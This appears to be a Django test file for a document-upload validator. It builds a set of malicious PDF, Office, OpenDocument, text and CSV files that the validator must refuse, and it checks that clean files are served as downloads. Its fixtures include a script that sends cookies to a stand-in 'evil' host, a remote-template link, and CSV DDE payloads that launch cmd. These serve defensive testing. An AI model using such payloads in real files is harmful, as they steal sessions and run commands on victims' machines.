"""Documents checked by their real structure (issue 12, item 6): a corpus of bad files, each
refused with a reason; good files and the demo's documents pass; every document is a download
with nosniff."""

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from pypdf import PdfWriter
from pypdf.actions import JavaScript

from partners.pdf import simple_pdf
from partners.uploads import MAX_PARTS, validate_upload

PDF = simple_pdf("Plan", ["Text"])
TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Default Extension="xml" ContentType="application/xml"/>{extra}</Types>'
)
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def rels(*relationships):
    body = "".join(
        f'<Relationship Id="r{n}" Type="{REL}/{kind}" Target="{target}"'
        + (' TargetMode="External"' if external else "")
        + "/>"
        for n, (kind, target, external) in enumerate(relationships)
    )
    return (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        f'2006/relationships">{body}</Relationships>'
    )


def zip_bytes(members):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in members:
            archive.writestr(name, content)
    return buffer.getvalue()


def docx(*extra, types_extra="", document_rels=None):
    members = [
        ("[Content_Types].xml", TYPES.format(extra=types_extra)),
        ("_rels/.rels", rels(("officeDocument", "word/document.xml", False))),
        ("word/document.xml", "<w:document/>"),
    ]
    if document_rels is not None:
        members.append(("word/_rels/document.xml.rels", document_rels))
    return zip_bytes([*members, *extra])


def xlsx(*extra):
    return zip_bytes(
        [
            ("[Content_Types].xml", TYPES.format(extra="")),
            ("xl/workbook.xml", "<workbook/>"),
            *extra,
        ]
    )


def pptx(*extra):
    return zip_bytes(
        [("[Content_Types].xml", TYPES.format(extra="")), ("ppt/presentation.xml", "<p/>"), *extra]
    )


def odt(*extra):
    return zip_bytes(
        [
            ("mimetype", "application/vnd.oasis.opendocument.text"),
            ("content.xml", "<office:document-content/>"),
            ("META-INF/manifest.xml", "<manifest:manifest/>"),
            *extra,
        ]
    )


def pdf_with(change):
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    change(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


SCRIPT = b"<script>fetch('https://evil/?c='+document.cookie)</script>"
AFTER_4KB = b"Anteckningar\n" * 400

BAD = {
    # PDF
    "HTML after %PDF-": ("report.pdf", b"%PDF-1.7\n<html><body>" + SCRIPT + b"</body></html>"),
    "HTML appended after %%EOF": ("report.pdf", PDF + b"\n<html>" + SCRIPT + b"</html>\n"),
    "PDF header and nothing else": ("report.pdf", b"%PDF-1.4\n%%EOF\n"),
    "PDF with broken structure": ("report.pdf", PDF[:200] + b"\n%%EOF"),
    "PDF with JavaScript": (
        "report.pdf",
        pdf_with(lambda w: w.add_open_action(JavaScript("app.alert(1);"))),
    ),
    "PDF with an embedded file": (
        "report.pdf",
        pdf_with(lambda w: w.add_attachment("page.html", b"<html></html>")),
    ),
    # Office Open XML
    "DOCX with an HTML part": ("module.docx", docx(("word/afchunk.htm", "<html>x</html>"))),
    "DOCX with a macro project": ("module.docx", docx(("word/vbaProject.bin", b"\xd0\xcf\x11"))),
    "DOCX with a macro-enabled content type": (
        "module.docx",
        docx(
            types_extra='<Override PartName="/word/document.xml" ContentType="application/'
            'vnd.ms-word.document.macroEnabled.main+xml"/>'
        ),
    ),
    "DOCX with HTML declared as XML (altChunk)": (
        "module.docx",
        docx(
            ("word/chunk.xml", "<html><body>x</body></html>"),
            types_extra='<Override PartName="/word/chunk.xml" ContentType="text/html"/>',
        ),
    ),
    "DOCX with a remote template": (
        "module.docx",
        docx(document_rels=rels(("attachedTemplate", "https://evil/t.dotm", True))),
    ),
    "DOCX with an external OLE object": (
        "module.docx",
        docx(document_rels=rels(("oleObject", "file://evil/share/x.bin", True))),
    ),
    "DOCX with a javascript: hyperlink": (
        "module.docx",
        docx(document_rels=rels(("hyperlink", "javascript:alert(1)", True))),
    ),
    "DOCX with an aFChunk relationship": (
        "module.docx",
        docx(document_rels=rels(("aFChunk", "chunk.xml", False))),
    ),
    "DOCX with a path out of the archive": ("module.docx", docx(("../evil.xml", "<x/>"))),
    "DOCX with a nested DOCX holding macros": (
        "module.docx",
        docx(("word/embeddings/inner.docx", docx(("word/vbaProject.bin", b"x")))),
    ),
    "XLSX with ActiveX": ("sheet.xlsx", xlsx(("xl/activeX/activeX1.bin", b"\x00"))),
    "XLSX with a program": ("sheet.xlsx", xlsx(("xl/media/setup.exe", b"MZ"))),
    "PPTX with a script": ("slides.pptx", pptx(("ppt/slides/run.js", "alert(1)"))),
    "DOCX with too many parts": (
        "module.docx",
        docx(*[(f"word/p{n}.xml", "") for n in range(MAX_PARTS)]),
    ),
    # OpenDocument
    "ODT with a Basic macro": ("text.odt", odt(("Basic/Standard/Module1.xml", "<script/>"))),
    "ODT with a script event listener": (
        "text.odt",
        odt(("styles.xml", '<script:event-listener xlink:href="vnd.sun.star.script:x"/>')),
    ),
    "ODT with a web page": ("text.odt", odt(("index.html", "<html></html>"))),
    # Text
    "script after 4 KB of text": ("notes.txt", AFTER_4KB + SCRIPT),
    "SVG after 4 KB of text": ("notes.txt", AFTER_4KB + b'<svg onload="alert(1)"/>'),
    "iframe closing tag late in text": ("notes.txt", AFTER_4KB + b"x</iframe>"),
    "NUL bytes in text": ("notes.txt", b"plain\x00text"),
    "UTF-16 text": ("notes.txt", "hej".encode("utf-16")),
    "VTT with script after 4 KB": ("captions.vtt", b"WEBVTT\n\n" + AFTER_4KB + SCRIPT),
    # CSV formulas
    "CSV =HYPERLINK": ("list.csv", b'city,link\nOslo,=HYPERLINK("https://evil/","x")\n'),
    "CSV DDE with +": ("list.csv", b"city,n\nOslo,+cmd|' /C calc'!A0\n"),
    "CSV arithmetic with -": ("list.csv", b"city,n\nOslo,-2+3+cmd|' /C calc'!A0\n"),
    "CSV @SUM": ("list.csv", b"city,n\nOslo,@SUM(1+1)*cmd|' /C calc'!A0\n"),
    "CSV cell starting with a tab": ("list.csv", b'city,n\nOslo,"\t=1+1"\n'),
    "CSV cell starting with a carriage return": ("list.csv", b'city,n\nOslo,"\r=1+1"\n'),
    "CSV quoted formula": ("list.csv", b'city,n\n"=1+1",2\n'),
    "CSV with semicolons": ("list.csv", b"stad;antal\nKista;=1+1\n"),
}

GOOD = {
    "PDF written by pypdf": ("plan.pdf", pdf_with(lambda w: None)),
    "DOCX with a web link": (
        "module.docx",
        docx(document_rels=rels(("hyperlink", "https://example.org/", True))),
    ),
    "DOCX with an image and an embedded clean workbook": (
        "module.docx",
        docx(("word/media/image1.png", b"\x89PNG"), ("word/embeddings/chart.xlsx", xlsx())),
    ),
    "XLSX with printer settings": (
        "sheet.xlsx",
        xlsx(("xl/printerSettings/printerSettings1.bin", b"\x00\x01")),
    ),
    "PPTX with a picture": ("slides.pptx", pptx(("ppt/media/image1.jpeg", b"\xff\xd8"))),
    "ODT with a picture and settings": (
        "text.odt",
        odt(
            ("Pictures/1.png", b"\x89PNG"),
            ("Configurations2/accelerator/current.xml", ""),
            ("Thumbnails/thumbnail.png", b"\x89PNG"),
        ),
    ),
    "CSV with negative numbers and phone numbers": (
        "list.csv",
        b"city,change,phone\nKista,-12,+46 8 123 45 67\nOslo,-3.5%,+47 22 00 00 00\n",
    ),
    "text mentioning angle brackets": ("notes.txt", b"3 < 5 and 7 > 2; <b>bold</b>\n" * 500),
    "VTT": ("captions.vtt", b"WEBVTT\n\n00:00.000 --> 00:01.000\nHej\n"),
}


@pytest.mark.parametrize("name", BAD)
def test_a_bad_document_is_refused_with_a_reason(name):
    filename, data = BAD[name]
    with pytest.raises(ValidationError) as error:
        validate_upload(SimpleUploadedFile(filename, data))
    assert error.value.code in ("content", "part", "formula")
    assert error.value.messages[0]


@pytest.mark.parametrize("name", GOOD)
def test_a_good_document_passes(name):
    filename, data = GOOD[name]
    validate_upload(SimpleUploadedFile(filename, data))


def test_the_corpus_is_large_enough():
    assert len(BAD) >= 30


def test_the_csv_refusal_names_the_cell_in_the_editors_language():
    with translation.override("sv"), pytest.raises(ValidationError) as error:
        validate_upload(SimpleUploadedFile(*BAD["CSV with semicolons"][:2]))
    message = error.value.messages[0]
    assert "2" in message and "=" in message and "CSV" in message
    assert "Row" not in message  # Swedish, not the English original


@pytest.mark.django_db
def test_the_demo_documents_pass():
    from partners.models import PartnerDocument

    documents = PartnerDocument.objects.all()
    assert documents.count() >= 22
    for document in documents:
        with document.file.open("rb") as handle:
            validate_upload(
                SimpleUploadedFile(document.file.name.rsplit("/", 1)[-1], handle.read())
            )


@pytest.mark.django_db
@pytest.mark.parametrize("name", GOOD)
def test_every_format_is_served_as_a_download_with_nosniff(client, name):
    from wagtail.models import Collection

    from partners.models import PartnerDocument

    filename, data = GOOD[name]
    public = Collection.objects.get(name="Copenhagen", depth=3)
    document = PartnerDocument(title=name, collection=public)
    document.file.save(filename, ContentFile(data), save=True)
    response = client.get(document.url)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "html" not in response["Content-Type"]
